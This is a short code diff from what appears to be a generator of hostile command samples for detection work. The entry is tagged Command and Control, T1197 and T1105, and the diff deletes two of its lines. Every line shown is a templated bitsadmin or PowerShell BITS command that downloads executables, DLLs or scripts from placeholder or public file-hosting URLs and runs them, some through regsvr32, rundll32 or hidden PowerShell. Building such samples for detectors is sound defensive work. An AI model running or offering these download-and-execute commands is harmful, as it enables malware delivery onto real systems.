@@ -40,9 +40,7 @@ hostile("transfer-jobs-of-strangers", "Command and Control", "T1197 T1105", r"""
 bitsadmin /transfer ~n~ /download /priority FOREGROUND @url@/~n~.exe ~f~.exe
 bitsadmin.exe /transfer myDownloadJob http://@pub@/~n~.«dll|ps1|bat|hta» C:\Users\Public\~n~.«dll|ps1|bat|hta»
 bitsadmin /create /download ~n~ & bitsadmin /addfile ~n~ @url@ ~f~.exe & bitsadmin /setnotifycmdline ~n~ ~f~.exe NUL & bitsadmin /resume ~n~
-bitsadmin /SetMinRetryDelay ~n~ 60
 bitsadmin /setnotifycmdline ~n~ «cmd.exe|regsvr32.exe|rundll32.exe|powershell.exe» "«/c ~f~.bat|/s ~f~.dll|~f~.dll,Start|-w hidden -f ~f~.ps1»"
-bitsadmin /SetNotifyFlags ~n~ 1 & bitsadmin /resume ~n~
 powershell Start-BitsTransfer -Source @url@/~n~.exe -Destination $env:TEMP\~n~.exe; Start-Process $env:TEMP\~n~.exe
 powershell -w hidden -c "Import-Module BitsTransfer; Start-BitsTransfer http://@pub@:8080/~n~.txt ~f~.ps1 -Asynchronous"
 bitsadmin /transfer n https://«cdn.discordapp.com/attachments|raw.githubusercontent.com/@word@/x/main|transfer.sh/@word@»/~n~.exe %cd%\~n~.exe
